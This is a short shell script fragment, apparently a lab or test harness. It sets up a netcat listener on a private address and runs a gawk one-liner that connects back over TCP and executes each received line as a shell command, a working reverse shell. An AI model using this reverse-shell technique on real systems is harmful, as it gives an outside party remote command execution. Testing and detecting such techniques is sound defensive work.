# gawk has the connection, and starts a shell for each line that comes.
peers() { (echo id; sleep 0.5; echo uname; sleep 0.5) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() {
  timeout 5 gawk 'BEGIN { s = "/inet/tcp/0/10.200.1.2/4444"
while ((s |& getline c) > 0) { while ((c |& getline l) > 0) print l |& s; close(c) } }'
}
